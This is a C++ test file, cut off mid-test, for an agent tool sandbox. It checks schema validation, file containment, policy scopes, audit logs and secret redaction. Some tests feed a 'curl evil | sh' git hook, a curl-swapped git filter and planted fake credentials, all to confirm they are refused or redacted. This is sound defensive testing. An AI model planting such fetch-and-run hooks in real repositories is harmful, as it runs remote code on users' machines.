// The tool contract: every example runs and matches its output schema; every tool rejects what
// its schema rejects; file tool behaviour, caps and errors; scopes; redaction end to end.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>

#include "core/hash.h"
#include "session/session.h"
#include "tests/test_util.h"
#include "tools/registry.h"
#include "tools/rg_json.h"
#include "tools/schema.h"

namespace cordon {
namespace {

using testing::ReadFile;
using testing::TempDir;
using testing::WriteFile;

class ToolsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    // Keep the user's own policies out of the tests.
    ::setenv("XDG_CONFIG_HOME", (dir_ / "config").c_str(), 1);
    std::filesystem::create_directories(dir_ / "ws");
  }
  std::unique_ptr<Session> Start(std::vector<std::string> policy_files = {}) {
    SessionOptions o;
    o.workspace = dir_ / "ws";
    o.audit_log = dir_ / "audit.jsonl";
    o.shipped_policy_dir = testing::ShippedPolicyDir();
    o.policy_files = std::move(policy_files);
    auto s = Session::Start(o, environ);
    EXPECT_TRUE(s) << s.error().message;
    return s ? std::move(*s) : nullptr;
  }
  std::string Ws(const std::string& rel) { return dir_ / ("ws/" + rel); }
  static std::string CodeOf(const Json& result) {
    return result["isError"].get<bool>()
               ? result["structuredContent"]["error"]["code"].get<std::string>()
               : "ok";
  }
  TempDir dir_;
};

void ExpectWellFormed(const ToolSpec& spec, const Json& result) {
  ASSERT_TRUE(result.contains("content") && result.contains("structuredContent") &&
              result.contains("isError"));
  ASSERT_EQ(result["content"].size(), 1u);
  EXPECT_EQ(result["content"][0]["type"], "text");
  // The text is the JSON rendering of the structured content: the same value.
  EXPECT_EQ(Json::parse(result["content"][0]["text"].get<std::string>()),
            result["structuredContent"]);
  const Json& sc = result["structuredContent"];
  EXPECT_EQ(ValidateAgainstSchema(spec.output_schema, sc), "") << sc.dump();
  if (result["isError"].get<bool>()) {
    EXPECT_EQ(ValidateAgainstSchema(ErrorOutputSchema(), sc["error"]), "");
  } else {
    EXPECT_EQ(ValidateAgainstSchema(spec.success_schema, sc), "") << sc.dump();
  }
}

TEST_F(ToolsTest, SchemasUseOnlySupportedKeywords) {
  for (const auto& t : BuiltinTools()) {
    std::string why;
    EXPECT_TRUE(SchemaIsSupported(t.input_schema, &why)) << t.name << ": " << why;
    EXPECT_TRUE(SchemaIsSupported(t.output_schema, &why)) << t.name << ": " << why;
    EXPECT_TRUE(SchemaIsSupported(t.success_schema, &why)) << t.name << ": " << why;
    EXPECT_EQ(ValidateAgainstSchema(t.input_schema, t.example), "") << t.name;
    EXPECT_FALSE(t.description.empty());
    EXPECT_TRUE(IsKnownScope(t.scope)) << t.name;
    EXPECT_TRUE(static_cast<bool>(t.run)) << t.name;
  }
}

TEST_F(ToolsTest, EveryExampleRunsAndMatchesItsOutputSchema) {
  for (const auto& t : BuiltinTools()) {
    SCOPED_TRACE(t.name);
    TempDir ws;
    for (const auto& [rel, content] : t.example_files) WriteFile(ws / rel, content);
    SessionOptions o;
    o.workspace = ws.path();
    o.audit_log = dir_ / "examples.jsonl";
    o.shipped_policy_dir = testing::ShippedPolicyDir();
    auto s = Session::Start(o, environ);
    ASSERT_TRUE(s);
    if (t.example_setup) {
      struct HostOnly : ToolServices {
        ProcessHost* host = nullptr;
        ProcessHost* Processes() override { return host; }
      } services;
      services.host = &(*s)->processes();
      ToolContext ctx{
          .workspace = (*s)->workspace(), .policy = (*s)->policy(), .services = services};
      ASSERT_TRUE(t.example_setup(ctx)) << t.name;
    }
    Json r = (*s)->Call(t.name, t.example);
    if (t.example_code) {
      // An example the shipped policy refuses (read_url) is refused with its code and says so.
      EXPECT_EQ(CodeOf(r), CodeName(*t.example_code)) << t.name << ": " << r.dump();
    } else {
      EXPECT_FALSE(r["isError"].get<bool>()) << t.name << ": " << r.dump();
    }
    ExpectWellFormed(t, r);
  }
}

// Inputs the schema rejects, generated from the schema itself.
std::vector<std::pair<std::string, Json>> BadInputs(const Json& schema, const Json& good) {
  std::vector<std::pair<std::string, Json>> out;
  out.push_back({"array instead of object", Json::array()});
  out.push_back({"string instead of object", "x"});
  out.push_back({"null", nullptr});
  Json extra = good;
  extra["zz_unknown_field"] = 1;
  out.push_back({"unknown field", extra});
  const Json required = schema.contains("required") ? schema["required"] : Json::array();
  const Json properties = schema.contains("properties") ? schema["properties"] : Json::object();
  for (const auto& req : required) {
    Json missing = good;
    missing.erase(req.get<std::string>());
    out.push_back({"missing " + req.get<std::string>(), missing});
  }
  for (const auto& [name, prop] : properties.items()) {
    const std::string type = prop["type"].get<std::string>();
    Json wrong = good;
    if (type == "string") wrong[name] = 42;
    if (type == "integer") wrong[name] = "7";
    if (type == "array") wrong[name] = Json::object();
    if (type == "boolean") wrong[name] = "true";
    out.push_back({"wrong type for " + name, wrong});
    if (type == "integer") {
      Json frac = good;
      frac[name] = 1.5;
      out.push_back({"fraction for " + name, frac});
    }
    if (type == "array" && prop.contains("items") && prop["items"].contains("properties")) {
      for (const auto& [bad_name, bad_item] : BadInputs(prop["items"], good[name][0])) {
        Json nested = good;
        nested[name][0] = bad_item;
        out.push_back({name + "[0]: " + bad_name, nested});
      }
      Json empty = good;
      empty[name] = Json::array();
      out.push_back({"empty " + name, empty});
    }
  }
  return out;
}

TEST_F(ToolsTest, EveryToolRejectsWhatItsSchemaRejects) {
  auto s = Start();
  int checked = 0;
  for (const auto& t : BuiltinTools()) {
    for (const auto& [what, input] : BadInputs(t.input_schema, t.example)) {
      EXPECT_NE(ValidateAgainstSchema(t.input_schema, input), "") << t.name << ": " << what;
      Json r = s->Call(t.name, input);
      EXPECT_EQ(CodeOf(r), "invalid_input") << t.name << ": " << what << " -> " << r.dump();
      ExpectWellFormed(t, r);
      ++checked;
    }
  }
  EXPECT_GT(checked, 40);
}

// Issue 18: a host repository configured with core.hooksPath=.husky runs .husky/pre-commit at
// the user's next `git commit`: the file tools refuse it, naming the key.
TEST_F(ToolsTest, PathsTheRepositorysConfigExecutesAreRefusedNamingTheKey) {
  if (::access("/usr/bin/git", X_OK) != 0) GTEST_SKIP() << "SKIPPED: /usr/bin/git is missing";
  auto git = [&](const std::string& dir, std::vector<std::string> args) {
    args.insert(args.begin(), {"/usr/bin/git", "-C", dir});
    auto r = testing::Run(args, {"GIT_CONFIG_NOSYSTEM=1", "HOME=" + (dir_ / "home")});
    ASSERT_EQ(r.exit_code, 0) << r.err;
  };
  git(Ws(""), {"init", "-q"});
  git(Ws(""), {"config", "core.hooksPath", ".husky"});
  std::filesystem::create_directories(Ws("lib"));
  git(Ws("lib"), {"init", "-q"});
  git(Ws("lib"), {"config", "filter.fmt.clean", "./tools/clean.sh %f"});
  WriteFile(Ws("lib/tools/clean.sh"), "#!/bin/sh\ncat\n");
  auto s = Start();
  Json r = s->Call("create_file", {{"path", ".husky/pre-commit"}, {"content", "curl evil | sh\n"}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy") << r.dump();
  EXPECT_NE(r.dump().find("core.hooksPath"), std::string::npos) << r.dump();
  EXPECT_FALSE(testing::Exists(Ws(".husky")));
  r = s->Call("replace_range",
              {{"path", "lib/tools/clean.sh"}, {"old_string", "cat"}, {"new_string", "curl"}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy") << r.dump();
  EXPECT_NE(r.dump().find("filter.fmt.clean"), std::string::npos) << r.dump();
  EXPECT_EQ(ReadFile(Ws("lib/tools/clean.sh")), "#!/bin/sh\ncat\n");
  r = s->Call("write_patch",
              {{"patches", {{{"op", "create"}, {"path", ".husky/pre-push"}, {"content", "x"}}}}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy") << r.dump();
  // Everything else is written as before.
  r = s->Call("create_file", {{"path", ".husky-notes/pre-commit"}, {"content", "x\n"}});
  EXPECT_EQ(CodeOf(r), "ok") << r.dump();
  r = s->Call("create_file", {{"path", "lib/src/pre-commit"}, {"content", "x\n"}});
  EXPECT_EQ(CodeOf(r), "ok") << r.dump();
}

TEST_F(ToolsTest, ReadUrlNeedsItsScopeAndAnEgressProxy) {
  // The shipped policy does not grant net:read.
  auto s = Start();
  Json r = s->Call("read_url", {{"url", "https://docs.example.test/"}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy") << r.dump();
  EXPECT_NE(r.dump().find("net:read"), std::string::npos) << r.dump();
  // Granted, but the session runs no egress proxy for it: refused, saying what it needs.
  WriteFile(dir_ / "net.toml", "[scopes]\ngrant = [\"net:read\"]\n");
  s = Start({dir_ / "net.toml"});
  r = s->Call("read_url", {{"url", "https://docs.example.test/"}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy") << r.dump();
  EXPECT_NE(r.dump().find("network mode proxy"), std::string::npos) << r.dump();
  // What the schema refuses is refused before anything else.
  r = s->Call("read_url", {{"url", "https://x.test/"}, {"timeout_secs", 0}});
  EXPECT_EQ(CodeOf(r), "invalid_input") << r.dump();
}

TEST_F(ToolsTest, UnknownToolIsInvalidInput) {
  auto s = Start();
  Json r = s->Call("rm_rf", Json::object());
  EXPECT_EQ(CodeOf(r), "invalid_input");
}

TEST_F(ToolsTest, ReadFileRangeBehaviour) {
  WriteFile(Ws("f.txt"), "one\r\ntwo\nthree");  // CRLF and no final newline
  auto s = Start();
  Json r = s->Call("read_file_range", {{"path", "f.txt"}, {"start_line", 2}});
  ASSERT_EQ(CodeOf(r), "ok") << r.dump();
  EXPECT_EQ(r["structuredContent"]["lines"], Json({"two", "three"}));
  EXPECT_EQ(r["structuredContent"]["total_lines"], 3);
  r = s->Call("read_file_range", {{"path", "f.txt"}, {"start_line", 1}, {"end_line", 1}});
  EXPECT_EQ(r["structuredContent"]["lines"], Json({"one"}));
  EXPECT_EQ(r["structuredContent"]["next_start_line"], 2);
  r = s->Call("read_file_range", {{"path", "f.txt"}, {"start_line", 9}});
  EXPECT_EQ(CodeOf(r), "invalid_input");
  r = s->Call("read_file_range", {{"path", "f.txt"}, {"start_line", 3}, {"end_line", 2}});
  EXPECT_EQ(CodeOf(r), "invalid_input");
  WriteFile(Ws("empty.txt"), "");
  r = s->Call("read_file_range", {{"path", "empty.txt"}, {"start_line", 1}});
  EXPECT_EQ(r["structuredContent"]["total_lines"], 0);
  r = s->Call("read_file_range", {{"path", "missing.txt"}, {"start_line", 1}});
  EXPECT_EQ(CodeOf(r), "not_found");
}

TEST_F(ToolsTest, ReadFileRangeCapsLinesCharsAndBytes) {
  std::string many;
  for (int i = 1; i <= 5000; ++i) many += "line " + std::to_string(i) + "\n";
  WriteFile(Ws("many.txt"), many);
  WriteFile(Ws("long.txt"), "short\n" + std::string(30u << 20, 'x') + "\nafter\n");  // 30 MB line
  WriteFile(Ws("bad.txt"), "ok\nbad \xff\xfe here\n");
  std::string binary = "text";
  binary += '\0';
  binary += "more";
  WriteFile(Ws("bin.dat"), binary);
  auto s = Start();
  Json r =
      s->Call("read_file_range", {{"path", "many.txt"}, {"start_line", 1}, {"end_line", 5000}});
  EXPECT_EQ(r["structuredContent"]["lines"].size(), 2000u);
  EXPECT_TRUE(r["structuredContent"]["truncated"].get<bool>());
  EXPECT_EQ(r["structuredContent"]["next_start_line"], 2001);
  EXPECT_EQ(r["structuredContent"]["total_lines"], 5000);

  r = s->Call("read_file_range", {{"path", "long.txt"}, {"start_line", 1}});
  ASSERT_EQ(CodeOf(r), "ok");
  const auto& lines = r["structuredContent"]["lines"];
  ASSERT_EQ(lines.size(), 3u);
  EXPECT_EQ(lines[1].get<std::string>().substr(0, 2000), std::string(2000, 'x'));
  EXPECT_NE(lines[1].get<std::string>().find(
                "[cordon: line cut, " + std::to_string((30u << 20) - 2000) + " more characters]"),
            std::string::npos);
  EXPECT_EQ(r["structuredContent"]["cut_lines"], 1);

  r = s->Call("read_file_range", {{"path", "bad.txt"}, {"start_line", 1}});
  ASSERT_EQ(CodeOf(r), "ok");
  EXPECT_TRUE(r["structuredContent"]["invalid_utf8"].get<bool>());
  EXPECT_EQ(r["structuredContent"]["lines"][1], "bad \xef\xbf\xbd\xef\xbf\xbd here");

  r = s->Call("read_file_range", {{"path", "bin.dat"}, {"start_line", 1}});
  EXPECT_EQ(CodeOf(r), "binary_file");
  EXPECT_EQ(r.dump().find("more"), std::string::npos);

  // A tighter policy caps bytes per result.
  WriteFile(dir_ / "tight.toml", "[limits]\nmax_output_bytes = 100\n");
  auto tight = Start({dir_ / "tight.toml"});
  r = tight->Call("read_file_range", {{"path", "many.txt"}, {"start_line", 1}});
  EXPECT_TRUE(r["structuredContent"]["truncated"].get<bool>());
  std::size_t bytes = 0;
  for (const auto& l : r["structuredContent"]["lines"]) bytes += l.get<std::string>().size();
  EXPECT_LE(bytes, 100u);
  EXPECT_EQ(r["structuredContent"]["next_start_line"],
            r["structuredContent"]["end_line"].get<int>() + 1);
}

TEST_F(ToolsTest, ContainmentErrors) {
  WriteFile(dir_ / "outside.txt", "outside\n");
  ASSERT_EQ(::symlink((dir_ / "outside.txt").c_str(), Ws("link").c_str()), 0);
  auto s = Start();
  struct Case {
    std::string tool;
    Json input;
    std::string code;
  };
  const Case cases[] = {
      {"read_file_range", {{"path", "../outside.txt"}, {"start_line", 1}}, "outside_workspace"},
      {"read_file_range", {{"path", dir_ / "outside.txt"}, {"start_line", 1}}, "outside_workspace"},
      {"read_file_range", {{"path", "link"}, {"start_line", 1}}, "invalid_input"},
      {"read_file_range", {{"path", std::string("a\0b", 3)}, {"start_line", 1}}, "invalid_input"},
      {"create_file", {{"path", "../escape.txt"}, {"content", "x"}}, "outside_workspace"},
      {"create_file", {{"path", "link"}, {"content", "x"}}, "already_exists"},
      {"create_file", {{"path", "link/x"}, {"content", "x"}}, "invalid_input"},
      {"replace_range",
       {{"path", "link"}, {"old_string", "o"}, {"new_string", "x"}},
       "invalid_input"},
      {"write_patch",
       {{"patches", {{{"op", "replace"}, {"path", "link"}, {"content", "x"}}}}},
       "invalid_input"},
      {"create_file", {{"path", ".git/hooks/pre-commit"}, {"content", "x"}}, "denied_by_policy"},
      {"create_file", {{"path", "sub/.git/config"}, {"content", "x"}}, "denied_by_policy"},
      {"create_file", {{"path", ".cordon/policy.toml"}, {"content", "x"}}, "denied_by_policy"},
      {"create_file", {{"path", "a/../.mcp.json"}, {"content", "x"}}, "denied_by_policy"},
      {"create_file", {{"path", ".bashrc"}, {"content", "x"}}, "denied_by_policy"},
      {"create_file", {{"path", "."}, {"content", "x"}}, "invalid_input"},
      // A name over 255 bytes (ENAMETOOLONG) is bad input, not an internal error.
      {"read_file_range", {{"path", std::string(900, 'n')}, {"start_line", 1}}, "invalid_input"},
      {"create_file", {{"path", std::string(300, 'n')}, {"content", "x"}}, "invalid_input"},
  };
  for (const auto& c : cases) {
    Json r = s->Call(c.tool, c.input);
    EXPECT_EQ(CodeOf(r), c.code) << c.tool << " " << c.input.dump() << " -> " << r.dump();
  }
  EXPECT_EQ(ReadFile(dir_ / "outside.txt"), "outside\n");
  EXPECT_FALSE(testing::Exists(dir_ / "escape.txt"));
  EXPECT_FALSE(testing::Exists(Ws(".git")));
  // No repository can be started by writing into a .git that does not exist (issue 9)...
  Json fresh = s->Call("create_file", {{"path", ".git/objects/ab/cdef"}, {"content", "blob"}});
  EXPECT_EQ(CodeOf(fresh), "denied_by_policy") << fresh.dump();
  EXPECT_FALSE(testing::Exists(Ws(".git")));
  // ...and in an existing one .git/objects stays writable, .git/commondir does not.
  std::filesystem::create_directories(Ws(".git/objects"));
  Json r = s->Call("create_file", {{"path", ".git/objects/ab/cdef"}, {"content", "blob"}});
  EXPECT_EQ(CodeOf(r), "ok") << r.dump();
  Json commondir = s->Call("create_file", {{"path", ".git/commondir"}, {"content", "/tmp\n"}});
  EXPECT_EQ(CodeOf(commondir), "denied_by_policy") << commondir.dump();
}

TEST_F(ToolsTest, ReplaceRangeErrorsLeaveTheFileUntouched) {
  const std::string original = "aaa\nbeta\ngamma\n";
  WriteFile(Ws("f.txt"), original);
  std::string bin = "x";
  bin += '\0';
  WriteFile(Ws("bin"), bin);
  auto s = Start();
  struct Case {
    Json input;
    std::string code;
  };
  const Case cases[] = {
      {{{"path", "f.txt"}, {"old_string", "delta"}, {"new_string", "x"}}, "not_found"},
      {{{"path", "f.txt"}, {"old_string", "a"}, {"new_string", "x"}}, "not_unique"},
      {{{"path", "f.txt"}, {"old_string", "aa"}, {"new_string", "x"}},
       "not_unique"},  // overlapping
      {{{"path", "f.txt"},
        {"old_string", "beta"},
        {"new_string", "x"},
        {"expected_sha256", std::string(64, '0')}},
       "conflict"},
      {{{"path", "f.txt"}, {"old_string", ""}, {"new_string", "x"}}, "invalid_input"},
      {{{"path", "bin"}, {"old_string", "x"}, {"new_string", "y"}}, "binary_file"},
      {{{"path", "nope"}, {"old_string", "x"}, {"new_string", "y"}}, "not_found"},
  };
  for (const auto& c : cases) {
    Json r = s->Call("replace_range", c.input);
    EXPECT_EQ(CodeOf(r), c.code) << c.input.dump() << " -> " << r.dump();
    EXPECT_EQ(ReadFile(Ws("f.txt")), original);
  }
  Json ok = s->Call("replace_range", {{"path", "f.txt"},
                                      {"old_string", "beta"},
                                      {"new_string", "BETA"},
                                      {"expected_sha256", Sha256Hex(original)}});
  ASSERT_EQ(CodeOf(ok), "ok") << ok.dump();
  EXPECT_EQ(ReadFile(Ws("f.txt")), "aaa\nBETA\ngamma\n");
  EXPECT_EQ(ok["structuredContent"]["sha256_before"], Sha256Hex(original));
}

TEST_F(ToolsTest, WritePatchValidatesEverythingFirst) {
  const std::string original = "one\ntwo\nthree\n";
  WriteFile(Ws("f.txt"), original);
  WriteFile(Ws("g.txt"), "g\n");
  auto s = Start();
  auto edit = [](std::string path, std::string o, std::string n) {
    return Json{{"op", "edit"}, {"path", path}, {"old_string", o}, {"new_string", n}};
  };
  struct Case {
    std::string name;
    Json patches;
    std::string code;
  };
  const Case cases[] = {
      {"second edit missing", {edit("f.txt", "one", "1"), edit("f.txt", "four", "4")}, "not_found"},
      {"edits match the original only",
       {edit("f.txt", "one", "uno"), edit("f.txt", "uno", "x")},
       "not_found"},
      {"overlap",
       {edit("f.txt", "one\ntwo", "x"), edit("f.txt", "two\nthree", "y")},
       "invalid_input"},
      {"two files", {edit("f.txt", "one", "1"), edit("g.txt", "g", "G")}, "invalid_input"},
      {"mixed ops",
       {edit("f.txt", "one", "1"), {{"op", "create"}, {"path", "h"}, {"content", "h"}}},
       "invalid_input"},
      {"create with old_string",
       {{{"op", "create"}, {"path", "h"}, {"content", "h"}, {"old_string", "x"}}},
       "invalid_input"},
      {"edit without new_string",
       {{{"op", "edit"}, {"path", "f.txt"}, {"old_string", "one"}}},
       "invalid_input"},
      {"create over existing",
       {{{"op", "create"}, {"path", "f.txt"}, {"content", "x"}}},
       "already_exists"},
      {"replace missing",
       {{{"op", "replace"}, {"path", "nope.txt"}, {"content", "x"}}},
       "not_found"},
      {"bad op", {{{"op", "delete"}, {"path", "f.txt"}}}, "invalid_input"},
  };
  for (const auto& c : cases) {
    Json r = s->Call("write_patch", {{"patches", c.patches}});
    EXPECT_EQ(CodeOf(r), c.code) << c.name << " -> " << r.dump();
    EXPECT_EQ(ReadFile(Ws("f.txt")), original) << c.name;
  }
  Json ok = s->Call("write_patch",
                    {{"patches", {edit("f.txt", "three", "3"), edit("f.txt", "one", "1")}}});
  ASSERT_EQ(CodeOf(ok), "ok") << ok.dump();
  EXPECT_EQ(ReadFile(Ws("f.txt")), "1\ntwo\n3\n");
  EXPECT_EQ(ok["structuredContent"]["edits_applied"], 2);
  ok = s->Call("write_patch",
               {{"patches", {{{"op", "replace"}, {"path", "g.txt"}, {"content", "new g\n"}}}}});
  ASSERT_EQ(CodeOf(ok), "ok") << ok.dump();
  EXPECT_EQ(ReadFile(Ws("g.txt")), "new g\n");
  ok = s->Call("write_patch",
               {{"patches", {{{"op", "create"}, {"path", "n/new.txt"}, {"content", ""}}}}});
  ASSERT_EQ(CodeOf(ok), "ok") << ok.dump();
  EXPECT_TRUE(testing::Exists(Ws("n/new.txt")));
}

TEST_F(ToolsTest, HugeContentIsTooLarge) {
  WriteFile(dir_ / "small.toml", "[limits]\nmax_file_bytes = 1024\n");
  WriteFile(Ws("big.txt"), std::string(4096, 'b'));
  auto s = Start({dir_ / "small.toml"});
  Json r = s->Call("create_file", {{"path", "x.txt"}, {"content", std::string(2048, 'x')}});
  EXPECT_EQ(CodeOf(r), "too_large");
  EXPECT_FALSE(testing::Exists(Ws("x.txt")));
  r = s->Call("replace_range", {{"path", "big.txt"}, {"old_string", "b"}, {"new_string", "c"}});
  EXPECT_EQ(CodeOf(r), "too_large");
}

TEST_F(ToolsTest, ScopesFilterTheCatalogAndDenyCalls) {
  WriteFile(dir_ / "ro.toml",
            "[scopes]\ngrant = [\"!fs:write\", \"!process:run\", \"!process:operate\", "
            "\"!session:operate\", \"!mcp:call\"]\n");
  auto s = Start({dir_ / "ro.toml"});
  std::vector<std::string> names;
  for (const ToolSpec* t : s->Catalog()) names.push_back(t->name);
  EXPECT_EQ(names, (std::vector<std::string>{"find_files", "list_searchable_files",
                                             "read_file_range", "search_text", "session_diff"}));
  Json r = s->Call("create_file", {{"path", "x.txt"}, {"content", "x"}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy");
  EXPECT_FALSE(testing::Exists(Ws("x.txt")));
  r = s->Call("run_shell", {{"program", "touch"}, {"args", {"y.txt"}}});
  EXPECT_EQ(CodeOf(r), "denied_by_policy");
  EXPECT_FALSE(testing::Exists(Ws("y.txt")));
  s->Finish();
  std::string log = ReadFile(dir_ / "audit.jsonl");
  EXPECT_NE(log.find("\"type\":\"policy_denied\""), std::string::npos);
  EXPECT_NE(log.find("\"decided_by\":\"" + (dir_ / "ro.toml") + ":2\""), std::string::npos);
}

// A long argument reaches the program whole; the answer names it by its start and its size
// instead of carrying it back (issue 33: a megabyte of arguments was in every copy of the answer).
TEST_F(ToolsTest, RunShellRunsALongArgumentWholeAndAnswersWithItsStart) {
  auto s = Start();
  const std::string big =
      std::string(199, 'x') + "\xc3\xa9" + std::string(9800, 'y');  // é: 2 bytes
  Json r = s->Call("run_shell", {{"program", "sh"},
                                 {"args", {"-c", "printf %s \"$1\" | wc -c", "sh", big, "short"}}});
  ASSERT_FALSE(r.value("isError", false)) << r.dump();
  const Json& sc = r["structuredContent"];
  EXPECT_EQ(std::stoul(sc["stdout"].get<std::string>()), big.size()) << "the program got it all";
  const Json& argv = sc["argv"];
  ASSERT_EQ(argv.size(), 6u) << argv.dump();
  EXPECT_EQ(argv[0], "sh");
  EXPECT_EQ(argv[3], "sh");
  EXPECT_EQ(argv[5], "short");
  const std::string shown = argv[4].get<std::string>();
  EXPECT_EQ(shown,
            big.substr(0, 201) + "... [cordon: " + std::to_string(big.size()) + " bytes in all]")
      << "200 characters (the 200th is two bytes), then the size";
  EXPECT_EQ(r["content"][0]["text"].get<std::string>().find(std::string(300, 'y')),
            std::string::npos);
}

TEST_F(ToolsTest, AuditRecordsEverySideEffectWithoutContents) {
  auto s = Start();
  const std::string content = "the file body must never reach the log\n";
  Json r = s->Call("create_file", {{"path", "a.txt"}, {"content", content}});
  ASSERT_EQ(CodeOf(r), "ok");
  r = s->Call("replace_range",
              {{"path", "a.txt"}, {"old_string", "never"}, {"new_string", "NEVER"}});
  ASSERT_EQ(CodeOf(r), "ok");
  s->Finish();
  std::string log = ReadFile(dir_ / "audit.jsonl");
  EXPECT_EQ(log.find("must never reach"), std::string::npos);
  std::vector<std::string> types;
  std::size_t pos = 0;
  while (pos < log.size()) {
    std::size_t nl = log.find('\n', pos);
    Json rec = Json::parse(log.substr(pos, nl - pos));
    types.push_back(rec["type"]);
    if (rec["type"] == "file_write") {
      EXPECT_EQ(rec["path"], "a.txt");
      EXPECT_EQ(rec["status"], "written");
      EXPECT_TRUE(rec.contains("sha256_after") && rec.contains("bytes_after") &&
                  rec.contains("sha256_before") && rec.contains("bytes_before") &&
                  rec.contains("op"));
    }
    pos = nl + 1;
  }
  EXPECT_EQ(types, (std::vector<std::string>{"log_started", "session_started", "tool_started",
                                             "file_write", "tool_finished", "tool_started",
                                             "file_write", "tool_finished", "session_finished"}));
}

TEST_F(ToolsTest, PlantedSecretsReachNeitherOutputNorLog) {
  const std::string env_secret = "env-planted-secret-9f8e7d";
  ::setenv("CORDON_TEST_API_TOKEN", env_secret.c_str(), 1);
  WriteFile(dir_ / "redact.toml", "[redact]\nvalues = [\"policy-planted-value-42\"]\n");
  const std::string aws = "AKIAABCDEFGHIJKLMNOP";
  const std::string gh = "ghp_" + std::string(36, 'Z');
  WriteFile(Ws("leak.txt"),
            "token " + env_secret + "\naws " + aws + "\ngh " + gh +
                "\nAuthorization: Bearer abcdefghijklmnop\n"
                "policy-planted-value-42\n"
                "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n-----END EC PRIVATE KEY-----\n");
  auto s = Start({dir_ / "redact.toml"});
  Json r = s->Call("read_file_range", {{"path", "leak.txt"}, {"start_line", 1}});
  Json r2 =
      s->Call("read_file_range", {{"path", gh + ".txt"}, {"start_line", 1}});  // secret in args
  s->Finish();
  ::unsetenv("CORDON_TEST_API_TOKEN");
  const std::string out = r.dump() + r2.dump();
  const std::string log = ReadFile(dir_ / "audit.jsonl");
  for (const std::string& secret :
       {env_secret, aws, gh, std::string("abcdefghijklmnop"),
        std::string("policy-planted-value-42"), std::string("MHcCAQEE")}) {
    EXPECT_EQ(out.find(secret), std::string::npos) << secret;
    EXPECT_EQ(log.find(secret), std::string::npos) << secret;
  }
  EXPECT_NE(out.find("[REDACTED:env]"), std::string::npos);
  EXPECT_NE(out.find("[REDACTED:private_key]"), std::string::npos);
  EXPECT_NE(log.find("\"output_redactions\":"), std::string::npos);
  // Issue 19: the agent is told what was hidden, by rule (structuredContent.redactions), the
  // record counts by rule, and session_started says what the redactor was given.
  const Json& told = r["structuredContent"]["redactions"];
  ASSERT_TRUE(told.is_object()) << r.dump();
  std::size_t sum = 0;
  for (const auto& [rule, n] : told["by_rule"].items()) sum += n.get<std::size_t>();
  EXPECT_EQ(told["count"].get<std::size_t>(), sum) << told.dump();
  // leak.txt holds a key block, so it is a secret file: its lines (the AWS key, the token) are
  // found as secret_file lines, which come before the rules.
  for (const char* rule : {"env", "policy", "private_key", "secret_file"}) {
    EXPECT_TRUE(told["by_rule"].contains(rule)) << rule << ": " << told.dump();
  }
  bool by_rule = false, started = false;
  std::istringstream lines(log);
  for (std::string line; std::getline(lines, line);) {
    const Json j = Json::parse(line, nullptr, false);
    if (j.is_discarded()) continue;
    if (j["type"] == "tool_finished" && j.contains("output_redactions_by_rule")) {
      by_rule = by_rule || j["output_redactions_by_rule"] == told["by_rule"];
    }
    if (j["type"] == "session_started") {
      started = j.contains("redaction") && j["redaction"]["rules"].get<std::size_t>() >= 20 &&
                j["redaction"]["secret_files"].is_object();
    }
  }
  EXPECT_TRUE(by_rule) << log;
  EXPECT_TRUE(started) << log;
}

// rg --json lines as search_text receives them.
std::string RgPath(const std::string& p) { return R"({"path":{"text":"./)" + p + R"("})"; }
std::string RgBegin(const std::string& p) {
  return R"({"type":"begin","data":)" + RgPath(p) + "}}";
}
std::string RgEnd(const std::string& p) { return R"({"type":"end","data":)" + RgPath(p) + "}}"; }
std::string RgLine(const std::string& type, const std::string& p, int n, std::size_t pad = 0) {
  return R"({"type":")" + type + R"(","data":{"path":{"text":"./)" + p +
         R"("},"lines":{"text":"x )" + std::string(pad, 'y') + std::to_string(n) +
         R"(\n"},"line_number":)" + std::to_string(n) + "}}";
}

struct Streamed {
  std::uint64_t matches = 0, files = 0, not_returned = 0, long_lines = 0;
  std::size_t peak = 0;
  std::vector<std::string> given;  // the whole lines the handler received
};

// Feeds `out` in reads of `chunk` bytes; the handler takes at most `cap` records and hides the
// files whose path holds "hidden".
Streamed StreamIn(const std::string& out, std::size_t chunk, std::size_t cap,
                  std::size_t max_line) {
  Streamed r;
  std::size_t taken = 0;
  RgJsonStream::Handler h;
  h.begin = [&](std::string_view line) {
    r.given.emplace_back(line);
    return line.find("hidden") == std::string_view::npos;
  };
  h.record = [&](std::string_view line, bool is_match) {
    if (taken >= cap) return false;
    ++taken;
    r.given.emplace_back(std::string(is_match ? "M " : "C ") + std::string(line));
    return true;
  };
  RgJsonStream stream(std::move(h), max_line);
  for (std::size_t i = 0; i < out.size(); i += chunk)
    stream.Feed(std::string_view(out).substr(i, chunk));
  stream.Finish();
  r.matches = stream.matches();
  r.files = stream.files();
  r.not_returned = stream.not_returned();
  r.long_lines = stream.long_lines();
  r.peak = stream.peak_held();
  EXPECT_EQ(stream.bytes(), out.size());
  return r;
}

TEST(RgJsonStreamTest, CountsEveryMatchWhereverTheReadsSplitTheLines) {
  const std::string long_match = RgLine("match", "c.txt", 2, 400);
  const std::vector<std::string> lines = {
      RgBegin("a.txt"),
      RgLine("match", "a.txt", 1),
      RgLine("context", "a.txt", 2),
      RgLine("match", "a.txt", 3),
      RgEnd("a.txt"),
      "{}",
      RgBegin("hidden/b.txt"),
      RgLine("match", "hidden/b.txt", 1),
      RgEnd("hidden/b.txt"),
      RgBegin("c.txt"),
      RgLine("match", "c.txt", 1),
      long_match,
      RgEnd("c.txt"),
      R"({"data":{"stats":{}},"type":"summary"})",
      RgLine("match", "c.txt", 4)};  // the last line has no newline (rg stopped mid-line)
  std::string out;
  for (const auto& l : lines) out += l + "\n";
  out.pop_back();
  struct Case {
    std::size_t cap, max_line;
    std::uint64_t not_returned, long_lines;
    std::vector<std::string> given;
  };
  const std::vector<Case> cases = {
      // Every record wanted: all but the hidden file's are given whole.
      {100,
       1 << 20,
       0,
       0,
       {lines[0], "M " + lines[1], "C " + lines[2], "M " + lines[3], lines[6], lines[9],
        "M " + lines[10], "M " + long_match, "M " + lines[14]}},
      // A cap of one record: the rest are counted by their prefix alone.
